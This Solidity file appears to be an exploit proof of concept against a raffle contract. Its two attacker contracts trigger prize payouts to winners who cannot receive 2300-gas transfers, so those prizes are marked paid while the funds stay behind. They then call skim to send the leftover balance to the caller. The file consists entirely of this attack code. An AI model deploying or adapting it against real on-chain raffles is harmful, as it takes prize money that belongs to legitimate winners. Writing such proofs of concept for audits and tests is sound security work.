// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface IRaffle {
    function payPrize(uint256 index) external;

    function payPrizes(uint256[] calldata indices) external;

    function skim(address to) external;
}

/// Has prizes "paid" to winners that cannot take 2300-gas payments, then skims what stayed behind.
contract MissedPrize {
    function run(IRaffle raffle, uint256[] calldata rounds) external {
        for (uint256 i = 0; i < rounds.length; i++) raffle.payPrize(rounds[i]);
        raffle.skim(msg.sender);
    }

    function runAtOnce(IRaffle raffle, uint256[] calldata rounds) external {
        raffle.payPrizes(rounds);
        raffle.skim(msg.sender);
    }
}

/// The first in one transaction, by the constructor.
contract MissedPrizeAtOnce {
    constructor(IRaffle raffle, uint256[] memory rounds) {
        for (uint256 i = 0; i < rounds.length; i++) raffle.payPrize(rounds[i]);
        raffle.skim(msg.sender);
    }
}
